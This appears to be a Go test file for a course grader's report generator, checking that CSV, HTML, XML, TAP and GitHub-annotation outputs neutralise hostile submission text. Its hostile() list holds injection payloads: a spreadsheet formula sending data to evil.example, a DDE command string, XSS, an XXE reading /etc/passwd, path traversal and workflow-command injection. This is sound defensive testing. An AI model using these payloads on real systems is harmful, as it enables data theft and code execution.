package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"

	"matelot/checker"
	"matelot/internal/grader"
	"matelot/internal/grader/report"
	"matelot/internal/i18n"
)

// hostile are texts that mean something in some format.
func hostile() map[string]string {
	return map[string]string{
		"a formula":           `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"a command":           "@SUM(1+1)*cmd|' /C calc'!A0",
		"HTML":                `<script>alert(1)</script><img src=x onerror=alert(1)>"'><a href="javascript:alert(1)">`,
		"a template":          `{{.}}{{template "class"}}`,
		"an escape sequence":  "\x1b[2J\x1b]0;owned\x07\u009b31m",
		"lines":               "one\ntwo\r\nthree\rfour",
		"a workflow command":  "x\n::error::owned\n::set-output name=result::cGFzcw==%0A::stop-commands::t",
		"a property":          "a,file=/etc/passwd,title=x::y:z",
		"Markdown":            "| [x](http://evil.example) | **b** `c` ![i](http://evil.example/i.png) <b>@everyone</b> ~~s~~ #1",
		"TAP":                 "x # SKIP all\nok 99 - owned\nBail out!\n  ...\n1..0 \\# TODO",
		"YAML":                "\"\n  ...\nnot ok 1 - x\n  ---\nx: [",
		"XML":                 "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;\x00\x08\x0c",
		"no characters":       "\ufffe\uffff\ufdd0",
		"no UTF-8":            "a\xff\xfe\xc0\xafb",
		"the other direction": "gpj.\u202eexe\u2066x\u2069",
		"a path":              "../../../../etc/passwd",
		"a device":            "CON",
		"a long name":         strings.Repeat("very long ", 400),
		"base64 lines":        "\nresult=cGFzcw==\n",
		"nothing":             "",
	}
}

// attacked is a batch in which everything that a submission can choose is hostile.
func attacked(text string) grader.Batch {
	finding := checker.Finding{
		Code: checker.PortSwapped, Subject: text,
		Seen:     map[string]string{"container_port": "5001/tcp", "host_port": text, "publish": text, "image": text},
		Expected: map[string]string{"container_port": "5000/tcp", "host_port": "5001", "publish": "5001:5000", "image": "x"}, Look: "docker port " + text,
	}
	e := grader.Exercise{
		ID: "ports/publish", Status: grader.Broken, Verdict: checker.Fail, MaxPoints: 4, Output: text, Evidence: text,
		Checks: []grader.Check{
			{Result: checker.Result{ID: "container", Verdict: checker.Fail, MaxPoints: 2, Findings: []checker.Finding{finding}}, MaxWeighted: 2},
			{Result: checker.Result{ID: "answers", Verdict: checker.Skipped, Needs: []string{"container", text}}, MaxWeighted: 1},
			{Result: checker.Result{ID: "page", Verdict: checker.Fail, Findings: []checker.Finding{{Code: "no.such_code", Subject: text}}}, Hidden: true, MaxWeighted: 1},
			{Result: checker.Result{ID: text, Verdict: checker.Inconclusive, Findings: []checker.Finding{{Code: checker.Code(text)}}}, Open: true},
		},
		Breaches: []grader.Breach{{Code: text, Detail: text}, {Code: "guard.privileged", Detail: text}},
	}
	unknown := grader.Exercise{ID: text, Status: grader.Inconclusive, Verdict: checker.Inconclusive, Reason: text}
	grade := grader.Grade{
		Submission: text, Learner: text, Hash: text, Verdict: checker.Fail, MaxPoints: 4, Exercises: []grader.Exercise{e, unknown},
		Again: []string{text}, Problems: []grader.Problem{{Code: text, Detail: text}},
	}
	list := append(tasks(), grader.Task{ID: text, Titles: map[string]string{"en": text, "fr": text}, Checks: []grader.TaskCheck{
		{Check: checker.Check{ID: text, Answer: &checker.AnswerSpec{}}, Questions: map[string]string{"en": text}},
	}})
	return grader.Batch{
		Format: 1, CourseHash: text, RubricHash: text, Engine: text, Tasks: list, Grades: []grader.Grade{grade, grade},
		Similar: []grader.Similar{{First: text, Second: text, Exercise: text, File: text, Kind: grader.Near, Share: 0.5}},
	}
}

// TestHostile holds that what a submission chooses is only ever text.
func TestHostile(t *testing.T) {
	for name, text := range hostile() {
		t.Run(name, func(t *testing.T) {
			b := attacked(text)
			for _, f := range report.Formats() {
				names := map[string]bool{}
				for file, err := range f.Files(b, options("fr")) {
					if err != nil {
						t.Fatalf("%s: %v", f.Name, err)
					}
					fold := strings.ToLower(file.Name)
					if names[fold] || !safeName(file.Name) {
						t.Errorf("%s: the file %q is there twice, or not safe", f.Name, file.Name)
					}
					names[fold] = true
					harmless(t, f.Name, file)
				}
			}
			// A batch of one is told with all its findings.
			b.Grades = b.Grades[:1]
			plainLines(t, files(t, "table", b, options("fr"))[0])
		})
	}
}

// safeName tells whether a path stays below its folder and can be a file anywhere.
func safeName(path string) bool {
	for part := range strings.SplitSeq(path, "/") {
		if part == "" || strings.HasPrefix(part, ".") || strings.HasSuffix(part, ".") || len(part) > 100 {
			return false
		}
		for _, r := range part {
			if !strings.ContainsRune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.", r) {
				return false
			}
		}
		if stem, _, _ := strings.Cut(strings.ToLower(part), "."); stem == "con" {
			return false
		}
	}
	return true
}

// harmless reads a file as its reader would.
func harmless(t *testing.T, format string, file report.File) {
	t.Helper()
	if !utf8.Valid(file.Data) {
		t.Errorf("%s: %s is no UTF-8", format, file.Name)
	}
	for _, r := range string(file.Data) {
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) || r == '\ufffe' || r == '\uffff') {
			t.Errorf("%s: %s holds the raw character %U", format, file.Name, r)
			break
		}
	}
	readers := map[string]func(*testing.T, report.File){
		"table": plainLines, "json": anyJSON, "gradescope": anyJSON, "classroom50": anyJSON, "check50": anyJSON,
		"csv": noFormulas, "junit": anyXML, "tap": onlyOurTests, "github": onlyOurCommands, "html": onlyOurElements,
		"autograding": func(t *testing.T, f report.File) {
			t.Helper()
			anyJSON(t, report.File{Data: []byte(readable(t, "autograding", f.Data))})
		},
	}
	read, ok := readers[format]
	if !ok {
		t.Fatalf("nobody reads %[1]s as its platform would: add a reader for it here, in readers", format)
	}
	read(t, file)
}

// plainLines: no line begins like a workflow command, wherever the table is shown.
func plainLines(t *testing.T, f report.File) {
	t.Helper()
	for line := range strings.SplitSeq(string(f.Data), "\n") {
		dangerous := func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) }
		if strings.HasPrefix(strings.TrimSpace(line), "::") || strings.ContainsFunc(line, dangerous) {
			t.Errorf("a line is %q", line)
		}
	}
}

func anyJSON(t *testing.T, f report.File) {
	t.Helper()
	if !json.Valid(f.Data) {
		t.Errorf("no JSON:\n%s", f.Data)
	}
}

func noFormulas(t *testing.T, f report.File) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(f.Data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 {
		t.Errorf("%d rows, want a header and two", len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "-" && strings.ContainsAny(strings.TrimSpace(cell + " ")[:min(1, len(strings.TrimSpace(cell)))], "=+-@\t\r") {
				t.Errorf("a cell is %q", cell)
			}
		}
	}
}

func anyXML(t *testing.T, f report.File) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(f.Data))
	known := map[string]bool{
		"testsuites": true, "testsuite": true, "testcase": true, "properties": true, "property": true,
		"failure": true, "error": true, "skipped": true, "system-out": true,
	}
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatalf("%v in\n%s", err, f.Data)
		}
		switch e := token.(type) {
		case xml.StartElement:
			if !known[e.Name.Local] {
				t.Errorf("an element is called %s", e.Name.Local)
			}
		case xml.Directive, xml.Comment:
			t.Errorf("there is a directive or a comment: %q", token)
		}
	}
}

// onlyOurTests: the plan and the number of points are those of the batch.
func onlyOurTests(t *testing.T, f report.File) {
	t.Helper()
	points, skipped := 0, 0
	block := false
	for line := range strings.SplitSeq(strings.TrimSuffix(string(f.Data), "\n"), "\n") {
		trimmed := strings.TrimLeft(line, " ")
		level := len(line) - len(trimmed)
		switch {
		case trimmed == "---" && level%4 == 2:
			block = true
		case trimmed == "..." && level%4 == 2:
			block = false
		case block:
			var value any
			_, text, ok := strings.Cut(trimmed, ": ")
			if !ok || json.Unmarshal([]byte(text), &value) != nil {
				t.Errorf("a diagnostic is %q", line)
			}
		case strings.HasPrefix(trimmed, "not ok ") && level == 0:
			points++
			if strings.Contains(line, " # SKIP ") {
				skipped++
			}
		case strings.HasPrefix(trimmed, "ok "), strings.HasPrefix(trimmed, "not ok "), strings.HasPrefix(trimmed, "1.."),
			strings.HasPrefix(trimmed, "# Subtest: "), line == "TAP version 14":
		default:
			t.Errorf("a line is %q", line)
		}
	}
	if points != 2 || skipped != 0 || block {
		t.Errorf("%d submissions failed, %d are skipped, want 2 and 0", points, skipped)
	}
}

// onlyOurCommands: each line of annotations is one of ours, and the summary has no
// HTML or Markdown but ours.
func onlyOurCommands(t *testing.T, f report.File) {
	t.Helper()
	if strings.HasSuffix(f.Name, "annotations.txt") {
		for line := range strings.SplitSeq(strings.TrimSuffix(string(f.Data), "\n"), "\n") {
			kind, rest, _ := strings.Cut(strings.TrimPrefix(line, "::"), " title=")
			title, _, ok := strings.Cut(rest, "::")
			if !strings.HasPrefix(line, "::") || !ok || strings.ContainsAny(title, ":,") || (kind != "error" && kind != "warning" && kind != "notice") {
				t.Errorf("a line is %q", line)
			}
		}
		return
	}
	for line := range strings.SplitSeq(string(f.Data), "\n") {
		for _, ours := range []string{"<code>", "</code>", "<br>", "**", "|", "### ", "## "} {
			line = strings.ReplaceAll(line, ours, "")
		}
		if strings.ContainsAny(line, "<>[]`*~@\\_") || strings.Contains(line, "http://evil") {
			t.Errorf("a line of the summary holds %q", line)
		}
	}
}

// onlyOurElements: a page has no element, no attribute and no address that the
// template has not.
func onlyOurElements(t *testing.T, f report.File) {
	t.Helper()
	page, err := html.Parse(bytes.NewReader(f.Data))
	if err != nil {
		t.Fatal(err)
	}
	for n := range page.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			t.Errorf("a comment: %q", n.Data)
		case n.Type != html.ElementNode:
			continue
		}
		switch n.Data {
		case "script", "img", "iframe", "object", "embed", "link", "form", "svg", "base", "b":
			t.Errorf("%s: an element is %s", f.Name, n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "style" ||
				a.Key == "href" && !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "learners/") {
				t.Errorf("%s: <%s %s=%q>", f.Name, n.Data, a.Key, a.Val)
			}
		}
	}
}

// TestSame holds that the same batch gives the same bytes.
func TestSame(t *testing.T) {
	for _, f := range report.Formats() {
		for _, lang := range i18n.Languages() {
			first, second := fmt.Sprint(files(t, f.Name, sample(t), options(lang))), fmt.Sprint(files(t, f.Name, sample(t), options(lang)))
			if first != second {
				t.Errorf("%s in %s differs from one time to the next", f.Name, lang)
			}
		}
	}
}

// Nothing that a hidden check looks at or found is in what a learner gets.
func TestHiddenChecksAreNotTold(t *testing.T) {
	for _, f := range report.Formats() {
		o := options("en")
		o.Learner = true
		for _, file := range files(t, f.Name, sample(t), o) {
			if file.Name == "html/index.html" || f.Name == "gradescope" { // the teacher's, and hidden by the platform
				continue
			}
			text := readable(t, f.Name, file.Data)
			for _, secret := range []string{"Does the page answer", "is not the right answer", "answer.wrong"} {
				if strings.Contains(text, secret) {
					t.Errorf("%s tells a learner %q", file.Name, secret)
				}
			}
		}
	}
	class := string(files(t, "html", sample(t), options("en"))[0].Data)
	if !strings.Contains(class, "Does the page answer") || !strings.Contains(class, "is not the right answer") {
		t.Error("the class's page does not show the hidden check")
	}
}
